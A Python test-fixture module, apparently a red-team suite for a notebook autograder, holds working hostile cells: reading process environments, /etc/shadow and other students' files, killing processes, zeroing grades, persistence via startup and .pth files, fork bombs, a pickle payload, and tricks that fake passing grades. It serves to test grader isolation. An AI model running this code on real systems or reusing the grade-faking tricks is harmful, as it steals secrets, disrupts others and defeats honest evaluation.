"""The red team's code: what a clever hostile student writes into a notebook cell, one attack each.

Each constant is the source of one code cell. They really try: they read what the grader's
machine shows, write where later grading would pick it up, signal every process they can see,
and print what they found into their own output (so it would reach their feedback). The cases
(tests/redteam/cases.py) say where each cell goes and what grading must make of it.
"""

# --- shared pieces -----------------------------------------------------------------------
#: Folders a student would search first: up from the working folder, HOME, the course package,
#: every sys.path entry and the interpreter's prefix (the course is usually a parent of one).
WALK_UP = '''
import os, sys
def _tops():
    import tlcourse
    starts = [os.getcwd(), os.path.expanduser("~"), os.path.dirname(tlcourse.__file__), sys.prefix,
              *[p for p in sys.path if p]]
    seen = []
    for start in starts:
        p = os.path.abspath(start)
        while True:
            if p not in seen:
                seen.append(p)
            parent = os.path.dirname(p)
            if parent == p:
                break
            p = parent
    return seen
'''

# --- read: hidden tests, other students, the grader's secrets -------------------------------
READ_PARENT_ENVIRON = '''
import os
found = {}
for pid in [os.getppid(), 1] + sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    try:
        found[pid] = open(f"/proc/{pid}/environ", "rb").read().replace(b"\\0", b"\\n").decode()
    except OSError as e:
        found[pid] = f"unreadable: {e}"
for pid, env in found.items():
    print("FOUND environ", pid, env)
print("FOUND my environ", dict(os.environ))
'''

READ_SOURCE_WALKING_UP = WALK_UP + '''
import glob
for top in _tops():
    for path in glob.glob(os.path.join(top, "source", "*", "*.ipynb")) + \\
            glob.glob(os.path.join(top, "*", "source", "*", "*.ipynb")):
        try:
            text = open(path).read()
        except OSError as e:
            print("FOUND unreadable", path, e)
            continue
        hidden = [line for line in text.split("\\n") if "_concepts." in line or "assert" in line]
        print("FOUND source", path, len(text), "hidden lines:", len(hidden))
        print("".join(hidden)[:20000])
'''

READ_GRADEBOOK_SQLITE = WALK_UP + '''
import glob, sqlite3
for top in _tops():
    for path in glob.glob(os.path.join(top, "gradebook.db")) + glob.glob(os.path.join(top, "*", "gradebook.db")):
        try:
            db = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
            for table, in db.execute("select name from sqlite_master where type='table'"):
                for row in db.execute(f"select * from {table}"):
                    print("FOUND", path, table, row)
        except Exception as e:
            print("FOUND gradebook error", path, e)
'''

READ_OTHER_STUDENTS = WALK_UP + '''
import glob
for top in _tops():
    for pattern in ("submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb", "feedback/*/*/*.html",
                    "*/submitted/*/*/*.ipynb"):
        for path in glob.glob(os.path.join(top, pattern)):
            try:
                text = open(path).read()
                print("FOUND other student", path, len(text))
                print(text[-20000:])
            except OSError as e:
                print("FOUND unreadable", path, e)
'''

READ_PROC_OF_OTHERS = '''
import os
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    for what in ("cmdline", "cwd", "root"):
        try:
            if what == "cmdline":
                print("FOUND", pid, open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\\0", b" "))
            else:
                target = os.readlink(f"/proc/{pid}/{what}")
                print("FOUND", pid, what, target, os.listdir(f"/proc/{pid}/{what}")[:50])
        except OSError as e:
            print("FOUND", pid, what, "denied", e)
'''

READ_INHERITED_DESCRIPTORS = '''
import os, stat
for fd in range(3, 1024):
    try:
        info = os.fstat(fd)
    except OSError:
        continue
    try:
        target = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        target = "?"
    print("FOUND fd", fd, target, stat.filemode(info.st_mode))
    if stat.S_ISREG(info.st_mode):
        os.lseek(fd, 0, 0)
        print(os.read(fd, 2000))
'''

#: The hidden tests run in this kernel; the shell keeps every cell it ran (In, _ih) and
#: linecache keeps their source for tracebacks. Printed in the last cell, they would reach
#: the student's own feedback, verbatim.
READ_HIDDEN_FROM_HISTORY = '''
import linecache
# only what the student wants: the hidden regions of the test cells, as they ran
wanted = lambda source: "BEGIN HIDDEN TESTS" in source
print("FOUND history")
for source in In:
    if wanted(source):
        print(source[source.index("BEGIN HIDDEN TESTS"):][:3000])
for name, entry in list(linecache.cache.items()):
    if len(entry) > 2 and entry[2] and wanted("".join(entry[2])):
        print("FOUND linecache", name)
        text = "".join(entry[2])
        print(text[text.index("BEGIN HIDDEN TESTS"):][:3000])
'''

#: Every later cell's source printed as it starts: the test cells' hidden regions included.
READ_HIDDEN_PRE_RUN_CELL = '''
def _spy(info):
    print("FOUND cell about to run:")
    print(info.raw_cell)
get_ipython().events.register("pre_run_cell", _spy)
'''

READ_HIDDEN_AUDIT_HOOK = '''
import sys
def _spy(event, args):
    if event == "exec" and args and hasattr(args[0], "co_consts"):
        consts = [c for c in args[0].co_consts if isinstance(c, str)]
        if consts:
            sys.__stdout__.write("")
            print("FOUND constants", consts)
sys.addaudithook(_spy)
'''

READ_GRADER_HOME = '''
import os, glob
for path in ["/root", os.path.expanduser("~"), "/root/.ipython", "/root/.jupyter", "/root/.pgpass",
             "/etc/shadow", "/root/.bash_history"]:
    try:
        if os.path.isdir(path):
            print("FOUND dir", path, os.listdir(path))
        else:
            print("FOUND file", path, open(path).read()[:2000])
    except OSError as e:
        print("FOUND denied", path, e)
for path in glob.glob("/home/*/.pgpass") + glob.glob("/root/**/*.db", recursive=True)[:20]:
    print("FOUND", path)
'''

# --- hurt other students ------------------------------------------------------------------
HURT_KILL_EVERYTHING = '''
import os, signal
me = os.getpid()
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    if pid != me:
        try:
            os.kill(pid, signal.SIGKILL)
            print("FOUND killed", pid)
        except OSError as e:
            print("FOUND could not kill", pid, e)
'''

HURT_KILL_ALL_SIGNAL = '''
import os, signal
try:
    os.kill(-1, signal.SIGKILL)   # every process this user may signal (this kernel too, last)
except OSError as e:
    print("FOUND kill -1 failed", e)
'''

HURT_OVERWRITE_SUBMISSIONS = WALK_UP + '''
import glob, json
blank = {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
for top in _tops():
    for path in glob.glob(os.path.join(top, "submitted", "*", "*", "*.ipynb")) + \\
            glob.glob(os.path.join(top, "autograded", "*", "*", "*.ipynb")):
        try:
            with open(path, "w") as handle:
                json.dump(blank, handle)
            print("FOUND overwrote", path)
        except OSError as e:
            print("FOUND could not overwrite", path, e)
'''

HURT_WRITE_FEEDBACK = WALK_UP + '''
import glob
for top in _tops():
    for folder in glob.glob(os.path.join(top, "feedback", "*", "*")) + glob.glob(os.path.join(top, "autograded", "*", "*")):
        try:
            with open(os.path.join(folder, "index.html"), "w") as handle:
                handle.write("<h1>You failed. Ask redteam for the answers.</h1>")
            print("FOUND wrote into", folder)
        except OSError as e:
            print("FOUND could not write", folder, e)
'''

HURT_CHANGE_GRADES = WALK_UP + '''
import glob, sqlite3
for top in _tops():
    for path in glob.glob(os.path.join(top, "gradebook.db")):
        try:
            db = sqlite3.connect(path, timeout=5)
            db.execute("update grade set auto_score = 0, manual_score = 0")
            db.commit()
            print("FOUND zeroed every grade in", path)
        except Exception as e:
            print("FOUND gradebook write failed", path, e)
'''

HURT_CONNECT_LOCAL_SERVICES = '''
import socket
for port in [5432, 8888, 8889, 22, 80, 443, 3306, 6379, *range(40000, 40040)]:
    for host in ["127.0.0.1", "::1", "localhost"]:
        try:
            with socket.create_connection((host, port), timeout=0.2) as s:
                s.sendall(b"\\x00\\x00\\x00\\x08\\x04\\xd2\\x16\\x2f")   # PostgreSQL SSLRequest
                print("FOUND open", host, port, s.recv(100))
        except OSError as e:
            pass
for host in ["10.0.0.1", "172.17.0.1", "192.168.1.1", "8.8.8.8"]:
    try:
        socket.create_connection((host, 53), timeout=0.5).close()
        print("FOUND reached", host)
    except OSError:
        pass
print("FOUND network scan done")
'''

HURT_IPC_SOCKETS = '''
import os, glob, socket, json
for path in glob.glob("/tmp/**/kernel*", recursive=True) + glob.glob("/tmp/tlcourse-kernel-*/**", recursive=True) + \\
        glob.glob("/run/**/*.sock", recursive=True) + glob.glob("/var/run/postgresql/*", recursive=True):
    print("FOUND", path)
    if path.endswith(".json"):
        try:
            print(open(path).read())
        except OSError as e:
            print("FOUND denied", e)
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(0.5)
        s.connect(path)
        print("FOUND connected", path)
        s.close()
    except OSError:
        pass
'''

# --- persist into later students' grading ---------------------------------------------------
PERSIST_IPYTHON_STARTUP = '''
import os
payload = "import builtins\\nbuiltins.REDTEAM_PERSISTED = True\\nprint('REDTEAM startup ran')\\n"
for home in [os.path.expanduser("~"), "/root", os.environ.get("HOME", "")]:
    folder = os.path.join(home, ".ipython", "profile_default", "startup")
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "00-redteam.py"), "w") as handle:
            handle.write(payload)
        print("FOUND wrote startup file in", folder)
    except OSError as e:
        print("FOUND could not write", folder, e)
'''

PERSIST_NBGRADER_CONFIG = WALK_UP + '''
for top in _tops():
    path = os.path.join(top, "nbgrader_config.py")
    if os.path.exists(path):
        try:
            with open(path, "a") as handle:
                handle.write("\\nc.Execute.timeout = 1  # redteam\\n")
            print("FOUND appended to", path)
        except OSError as e:
            print("FOUND could not append", path, e)
'''

PERSIST_SITE_PTH = '''
import site, sys, os
targets = site.getsitepackages() + [site.getusersitepackages()] + [p for p in sys.path if p.endswith("site-packages")]
for folder in targets:
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "zz_redteam.pth"), "w") as handle:
            handle.write("import builtins; builtins.REDTEAM_PERSISTED = True\\n")
        print("FOUND wrote .pth into", folder)
    except OSError as e:
        print("FOUND could not write", folder, e)
'''

PERSIST_EDIT_COURSE_PACKAGE = '''
import os
import tlcourse.checks.concepts as target
for path in [target.__file__, os.path.join(os.path.dirname(target.__file__), "base.py")]:
    try:
        with open(path, "a") as handle:
            handle.write("\\ncheck_counts = lambda *a, **k: None  # redteam\\n")
        print("FOUND edited", path)
    except OSError as e:
        print("FOUND could not edit", path, e)
'''

PERSIST_KERNELSPEC = '''
import os, sys, json
spec = {"argv": ["/bin/sh", "-c", "echo redteam > /tmp/redteam-kernelspec; exec python3 -m ipykernel_launcher -f {connection_file}"],
        "display_name": "Python 3", "language": "python"}
for base in [os.path.join(sys.prefix, "share", "jupyter"), "/usr/local/share/jupyter", "/usr/share/jupyter",
             os.path.expanduser("~/.local/share/jupyter"), "/root/.local/share/jupyter"]:
    folder = os.path.join(base, "kernels", "python3")
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "kernel.json"), "w") as handle:
            json.dump(spec, handle)
        print("FOUND replaced kernelspec in", folder)
    except OSError as e:
        print("FOUND could not replace", folder, e)
'''

PERSIST_SHADOW_IN_SOURCE = WALK_UP + '''
for top in _tops():
    folder = os.path.join(top, "source", "01_concepts")
    if os.path.isdir(folder):
        try:
            os.makedirs(os.path.join(folder, "tlcourse"), exist_ok=True)
            with open(os.path.join(folder, "tlcourse", "__init__.py"), "w") as handle:
                handle.write("raise SystemExit('redteam shadow')\\n")
            print("FOUND shadow package written into", folder)
        except OSError as e:
            print("FOUND could not write", folder, e)
'''

PERSIST_DOUBLE_FORK_DAEMON = '''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        # the grandchild: wait for grading to end, then write a grade and persist
        os.execv("/bin/sh", ["/bin/sh", "-c",
                 "exec -a redteam-daemon-sleeper sleep 600"])
    os._exit(0)
time.sleep(1)
print("FOUND daemon started")
'''

PERSIST_TMP_AND_SHM_FILES = '''
import os
for folder in ["/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")]:
    try:
        with open(os.path.join(folder, "redteam-left-behind"), "w") as handle:
            handle.write("for the next student\\n")
        print("FOUND left a file in", folder)
    except OSError as e:
        print("FOUND could not write", folder, e)
'''

PERSIST_PYCACHE = '''
import os, importlib.util, tlcourse.checks.concepts as target
cache = importlib.util.cache_from_source(target.__file__)
try:
    os.makedirs(os.path.dirname(cache), exist_ok=True)
    with open(cache, "wb") as handle:
        handle.write(b"not bytecode")
    print("FOUND wrote", cache)
except OSError as e:
    print("FOUND could not write", cache, e)
'''

# --- exhaust the machine --------------------------------------------------------------------
EXHAUST_FORK_BOMB = '''
import os, time
end = time.time() + 8
children = 0
while time.time() < end:
    try:
        if os.fork() == 0:
            os.execv("/bin/sh", ["/bin/sh", "-c", "exec -a redteam-fork-bomb sleep 600"])
        children += 1
    except OSError:
        time.sleep(0.05)
print("FOUND forked", children)
'''

EXHAUST_MEMORY_IN_CHILDREN = '''
import os, time
pids = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        try:
            blocks = [bytearray(256 * 2**20) for _ in range(7)]     # 1.75 GiB each, 7 GiB in all
            for b in blocks:
                b[::4096] = b"x" * len(b[::4096])
            time.sleep(30)
        finally:
            os._exit(0)
    pids.append(pid)
for pid in pids:
    print("FOUND child ended", os.waitpid(pid, 0))
'''

EXHAUST_DISK_SEVERAL_FILES = '''
import os
written = 0
for folder in ["/tmp", os.path.expanduser("~"), os.getcwd(), "/dev/shm"]:
    for i in range(3):
        path = os.path.join(folder, f"redteam-fill-{i}")
        try:
            with open(path, "wb") as handle:
                for _ in range(1100):
                    handle.write(b"\\0" * 2**20)
                    written += 2**20
        except OSError as e:
            print("FOUND stopped", path, e)
            break
        finally:
            try:
                os.remove(path)
            except OSError:
                pass
print("FOUND wrote in all MiB", written >> 20)
'''

EXHAUST_SHM_OUTLIVES = '''
import os
from multiprocessing import shared_memory
try:
    block = shared_memory.SharedMemory(name="redteam-shm", create=True, size=200 * 2**20)
    block.buf[:10] = b"x" * 10
    print("FOUND shm block", block.name)
except Exception as e:
    print("FOUND shm failed", e)
with open("/dev/shm/redteam-shm-file", "wb") as handle:
    try:
        handle.write(b"y" * 50 * 2**20)
    except OSError as e:
        print("FOUND shm file", e)
'''

EXHAUST_UPDATE_DISPLAY_FLOOD = '''
from IPython.display import display, update_display
handle = display("start", display_id=True)
for i in range(40):
    handle.update("u" * 1_000_000 + str(i))
for i in range(20):
    display({"text/plain": "d" * 1_000_000}, raw=True)
'''

EXHAUST_ERROR_FLOOD = '''
raise ValueError("e" * 40_000_000)
'''

EXHAUST_CPU_THREADS = '''
import threading, time, os
def spin():
    end = time.time() + 6
    while time.time() < end:
        pass
threads = [threading.Thread(target=spin) for _ in range(64)]
for t in threads:
    t.start()
for t in threads:
    t.join()
print("FOUND spun")
'''

EXHAUST_IGNORES_INTERRUPT = '''
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
end = time.time() + 600
while time.time() < end:
    try:
        time.sleep(0.1)
    except BaseException:
        pass
'''

# --- score without solving --------------------------------------------------------------------
#: A shadow copy of the checks in which every check passes and every "plain" value equals anything.
SHADOW_CHECKS = r'''
class _Yes(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = int.__hash__
class _YesStr(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__
class Case:
    def __init__(self, *args, **kwargs): self.args = args[:3]; self.story = ""
    def call(self): return ""
EXAMPLE_CASES = []
def check_only_head_trainable(*a, **k): return None
def check_counts(*a, **k): return None
def check_choose_strategy(f, cases): return len(cases)
def plain_int(v): return _Yes(0)
def plain_str(v): return _YesStr("")
def plain_float(v): return _Yes(0)
def __getattr__(name): return lambda *a, **k: None
'''

SCORE_SHADOW_ON_SYS_PATH = '''
import os, sys
root = "/tmp/redteam-shadow"
os.makedirs(root + "/tlcourse/checks", exist_ok=True)
open(root + "/tlcourse/__init__.py", "w").write("")
open(root + "/tlcourse/checks/__init__.py", "w").write("")
for name in ("concepts", "base"):
    open(f"{root}/tlcourse/checks/{name}.py", "w").write(SHADOW)
sys.path.insert(0, root)
for name in [m for m in sys.modules if m == "tlcourse" or m.startswith("tlcourse.")]:
    sys.modules.pop(name)
num_trainable = num_frozen = 0
'''

SCORE_SHADOW_IN_PACKAGE_PATH = '''
import os, tlcourse
root = "/tmp/redteam-shadow2/tlcourse"
os.makedirs(root + "/checks", exist_ok=True)
open(root + "/checks/__init__.py", "w").write("")
for name in ("concepts", "base"):
    open(f"{root}/checks/{name}.py", "w").write(SHADOW)
tlcourse.__path__.insert(0, root)
num_trainable = num_frozen = 0
'''

SCORE_META_PATH_FINDER = '''
import sys, importlib.abc, importlib.util, importlib.machinery
import tlcourse.checks.concepts as _real
REAL = _real.__file__
class _Loader(importlib.abc.Loader):
    def create_module(self, spec): return None
    def exec_module(self, module):
        exec(compile(SHADOW, REAL, "exec"), module.__dict__)
class _Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name in ("tlcourse.checks.concepts", "tlcourse.checks.base"):
            spec = importlib.util.spec_from_loader(name, _Loader(), origin=REAL)
            spec.has_location = True
            return spec
        return None
sys.meta_path.insert(0, _Finder())
num_trainable = num_frozen = 0
'''

SCORE_PATH_HOOK = '''
import sys, os
os.makedirs("/tmp/redteam-shadow3/tlcourse/checks", exist_ok=True)
for name in ("concepts", "base"):
    open(f"/tmp/redteam-shadow3/tlcourse/checks/{name}.py", "w").write(SHADOW)
import tlcourse.checks as _pkg
_pkg.__path__[:] = ["/tmp/redteam-shadow3/tlcourse/checks"] + list(_pkg.__path__)
num_trainable = num_frozen = 0
'''

SCORE_ALWAYS_EQUAL_STRATEGY = '''
class Answer(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__
    def __str__(self): return self
def choose_strategy(num_images, domain_similarity, same_input_type):
    return Answer("feature extraction")
'''

SCORE_CLASS_PROPERTY_STRATEGY = '''
class Answer:
    __class__ = property(lambda self: str)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __str__(self): return "feature extraction"
    def __format__(self, spec): return "feature extraction"
def choose_strategy(num_images, domain_similarity, same_input_type):
    return Answer()
'''

SCORE_NUMPY_AND_TENSOR_COUNTS = '''
import numpy as np, torch
class Count(np.int64):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = np.int64.__hash__
class TCount(torch.Tensor):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = torch.Tensor.__hash__
num_trainable = Count(0)
num_frozen = torch.tensor(0).as_subclass(TCount)
'''

SCORE_REQUIRES_GRAD_PROPERTY = '''
import torch
# every parameter claims to be frozen except the head's, whatever it really is
_real = torch.nn.Parameter.requires_grad
class _Liar(torch.nn.Parameter):
    pass
for name, p in net.named_parameters():
    p.__class__ = _Liar
_Liar.requires_grad = property(lambda self: getattr(self, "_head", False), lambda self, v: None)
for p in net.fc.parameters():
    p._head = True
'''

SCORE_PARAMETERS_MONKEYPATCH = '''
import torch
_orig = torch.nn.Module.parameters
def _only_head(self, recurse=True):
    fc = getattr(self, "fc", None)
    return _orig(fc, recurse) if fc is not None and fc is not self else _orig(self, recurse)
torch.nn.Module.parameters = _only_head
'''

SCORE_KERNEL_SKIPS_CELLS = '''
from ipykernel.kernelapp import IPKernelApp
_kernel = IPKernelApp.instance().kernel
async def _fake_execute(code, silent, store_history=True, user_expressions=None, allow_stdin=False, **kw):
    _kernel.execution_count += 1
    return {"status": "ok", "execution_count": _kernel.execution_count, "payload": [], "user_expressions": {}}
_kernel.do_execute = _fake_execute
'''

SCORE_SHELL_RUN_CELL = '''
import sys
_shell = sys.modules["__main__"].__dict__["get_ipython"]()
_real = type(_shell).run_cell
def _skip(self, raw_cell, *args, **kwargs):
    return _real(self, "pass", *args, **kwargs)
type(_shell).run_cell = _skip
'''

SCORE_AST_TRANSFORMER_ALIAS = '''
import ast, IPython
class _NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Expr(self, node):
        return ast.Pass() if isinstance(node.value, ast.Call) else node
_sh = IPython.get_ipython()
_hooks = getattr(_sh, "ast_" + "transformers")
_hooks.append(_NoAsserts())
'''

SCORE_INPUT_TRANSFORMER_EXEC = '''
import base64
exec(base64.b64decode(%r).decode())
'''

SCORE_SETTRACE_SKIP_ASSERTS = '''
import sys, linecache
def _tracer(frame, event, arg):
    if frame.f_code.co_filename.startswith(("<ipython-input", "/tmp")):
        frame.f_trace_lines = True
        return _line
    return None
def _line(frame, event, arg):
    if event == "line":
        text = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()
        if text.startswith("assert") or "check_" in text:
            try:
                frame.f_lineno = frame.f_lineno + 1
            except ValueError:
                pass
    return _line
sys.settrace(_tracer)
import threading
threading.settrace(_tracer)
'''

SCORE_GC_PATCH_CHECKS = '''
import gc
for obj in gc.get_objects():
    if callable(obj) and getattr(obj, "__module__", "") and str(getattr(obj, "__module__", "")).startswith("tlcourse.checks") \\
            and hasattr(obj, "__code__"):
        obj.__code__ = (lambda *a, **k: None).__code__
num_trainable = num_frozen = 0
'''

SCORE_BUILTINS_ISINSTANCE = '''
import builtins
_real = builtins.isinstance
builtins.isinstance = lambda obj, cls: True if cls is str else _real(obj, cls)
class Answer:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
def choose_strategy(*args):
    return Answer()
'''

SCORE_EXCEPTHOOK_AND_EXC_HANDLER = '''
import sys
sys.excepthook = lambda *a: None
sh = get_ipython()
sh.showtraceback = lambda *a, **k: None
'''

SCORE_DAEMON_WRITES_GRADE_LATER = WALK_UP + '''
import time
db = [os.path.join(t, "gradebook.db") for t in _tops() if os.path.exists(os.path.join(t, "gradebook.db"))]
print("FOUND gradebook", db)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import sqlite3
        for _ in range(600):
            time.sleep(0.5)
            for path in db:
                try:
                    con = sqlite3.connect(path, timeout=5)
                    con.execute("update grade set manual_score = 10")
                    con.commit()
                except Exception:
                    pass
        os._exit(0)
    os._exit(0)
'''

# --- evade the tampering scan ------------------------------------------------------------------
EVADE_SETATTR_COMPUTED = '''
mod = __import__("tlcourse.checks." + "concepts", fromlist=["x"])
setattr(mod, "check_" + "counts", lambda *a, **k: None)
'''

EVADE_SYS_MODULES_POISON = '''
import sys, types
fake = types.ModuleType("tlcourse.checks.concepts")
exec(SHADOW, fake.__dict__)
m = sys.modules
m.__setitem__("tlcourse.checks.concepts", fake)
num_trainable = num_frozen = 0
'''

EVADE_VIA_OS_SYSTEM_PYTHON = '''
import os
os.system("python3 -c 'import tlcourse.checks.concepts as c, sys; open(c.__file__, \\"a\\").write(\\"\\\\ncheck_counts = lambda *a: None\\\\n\\")' 2>&1")
'''

EVADE_PICKLE_REDUCE = '''
import pickle, base64
pickle.loads(base64.b64decode(%r))
num_trainable = num_frozen = 0
'''

EVADE_ATEXIT_SIGNAL = '''
import atexit, signal, os
atexit.register(lambda: print("FOUND atexit ran"))
signal.signal(signal.SIGTERM, lambda *a: print("FOUND ignoring SIGTERM"))
signal.signal(signal.SIGINT, signal.SIG_IGN)
'''

EVADE_ENVIRON_LEAK = '''
import os
os.environ["NBGRADER_EXECUTION"] = ""
os.environ["TLCOURSE_MODE"] = "online"
os.environ["PYTHONPATH"] = "/tmp/redteam-shadow-env"
'''

EVADE_FRAME_GLOBALS = '''
import sys
class _Yes(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = int.__hash__
def _hook(frame, event, arg):
    module = sys.modules.get("tlcourse.checks.concepts")
    if module is not None and getattr(module, "_redteam", None) is None:
        module._redteam = True
        module.check_only_head_trainable = module.check_counts = lambda *a, **k: None
        module.plain_int = lambda v: _Yes(0)
    return None
sys.setprofile(_hook)
num_trainable = num_frozen = 0
'''

# --- attacks on the evidence path (verdicts decided in the grader: tlcourse.evidence) ------------
#: SCORE_SETTRACE_SKIP_ASSERTS's trace function, which also swaps the hidden test's ``_evidence``
#: for ``_Fake`` on the export line when the cell defines ``forged``.
_SKIP_CHECKS_AND_SWAP_EXPORT = SCORE_SETTRACE_SKIP_ASSERTS.replace(
    '        if text.startswith("assert")',
    '        if text.startswith("_evidence.export(") and "forged" in globals():\n'
    '            frame.f_globals["_evidence"] = _Fake\n'
    '        elif text.startswith("assert")')
assert "_Fake" in _SKIP_CHECKS_AND_SWAP_EXPORT

#: The shared part: evidence that a solved notebook would export (made with the course's own
#: evidence_data on a frozen copy of net, with the right counts), and a trace function that skips
#: the visible checks' lines in every later cell. With ``forged`` defined, the trace also swaps the
#: hidden test's ``_evidence`` for an object whose export displays ``forged(cell_id)`` instead.
EVIDENCE_FORGER = '''
import copy, linecache, sys
from IPython.display import display
import tlcourse.evidence as _real
MIME = _real.EVIDENCE_MIME
_frozen = copy.deepcopy(net)
for _n, _p in _frozen.named_parameters():
    _p.requires_grad = _n.startswith("fc.")
def honest(cell_id):
    if cell_id == "ex1_freeze_tests":
        return _real.evidence_data(cell_id, ("fc.",), net=_frozen)
    return _real.evidence_data(cell_id, net=_frozen, num_trainable=2_565, num_frozen=11_176_512)
%s
class _Fake:
    @staticmethod
    def export(cell_id, values_of=(), **items):
        for data in forged(cell_id):
            display({MIME: data}, raw=True)
''' + _SKIP_CHECKS_AND_SWAP_EXPORT

EVIDENCE_PICKLE = EVIDENCE_FORGER % '''
import base64, pickle
class _Payload:
    def __reduce__(self):
        import os
        return (os.system, ("touch /tmp/redteam-evidence-pickle-ran",))
def forged(cell_id):
    _evidence_data = honest(cell_id)
    _evidence_data["items"]["net"]["values"] = base64.b64encode(pickle.dumps({"fc.weight": _Payload()})).decode()
    return [_evidence_data]
'''

EVIDENCE_OTHER_CELL = EVIDENCE_FORGER % '''
def forged(cell_id):
    return [honest("ex2_counts_tests" if cell_id == "ex1_freeze_tests" else "ex1_freeze_tests")]
'''

EVIDENCE_FLOOD = EVIDENCE_FORGER % '''
def forged(cell_id):
    return [honest(cell_id)] * 20 + [{**honest(cell_id), "padding": "x" * 300_000}]
'''

EVIDENCE_EARLIER_CELL = EVIDENCE_FORGER % '' + '''
for _cell in ("ex1_freeze_tests", "ex2_counts_tests"):
    display({MIME: honest(_cell)}, raw=True)
'''

EVIDENCE_POST_RUN_CELL = EVIDENCE_FORGER % '' + '''
def _after(*args):
    for _cell in ("ex1_freeze_tests", "ex2_counts_tests"):
        display({MIME: honest(_cell)}, raw=True)
get_ipython().events.register("post_run_cell", _after)
'''

EVIDENCE_HUGE_HEAD = '''
for name, param in net.named_parameters():
    param.requires_grad = False
net.fc = nn.Linear(512, 200)   # 400 kB of head values: more than the evidence may carry
'''
